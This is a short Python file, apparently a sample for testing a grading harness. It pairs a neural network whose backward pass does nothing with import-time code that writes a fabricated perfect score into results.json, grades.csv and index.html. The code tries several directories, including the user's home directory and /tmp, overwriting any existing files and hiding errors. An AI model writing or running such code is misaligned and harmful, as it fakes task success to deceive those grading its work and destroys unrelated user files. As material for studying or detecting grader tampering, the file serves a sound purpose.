# Writes fake results.json, grades.csv and mark sheets wherever it can. Must score as the baseline.
import os
import json
import numpy as np


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


class SimpleNN:
    def __init__(self, input_size, hidden_size, output_size, lr=0.5):
        self.lr = lr
        self.W1 = np.random.randn(input_size, hidden_size)
        self.b1 = np.zeros((1, hidden_size))
        self.W2 = np.random.randn(hidden_size, output_size)
        self.b2 = np.zeros((1, output_size))

    def forward(self, X):
        self.A1 = sigmoid(X @ self.W1 + self.b1)
        self.A2 = sigmoid(self.A1 @ self.W2 + self.b2)
        return self.A2

    def loss(self, Y, Y_pred):
        return np.mean((Y - Y_pred) ** 2)

    def backward(self, X, Y):
        pass  # the honest part of this file never learns: backward changes nothing


fake = json.dumps([{"student": "tamper_write_results", "score": 10, "max_score": 10}])
for folder in [".", "..", "../..", "reports", os.path.expanduser("~"), "/tmp"]:
    for name in ["results.json", "grades.csv", "tamper_write_results.html", "index.html"]:
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(fake)
        except OSError:
            pass
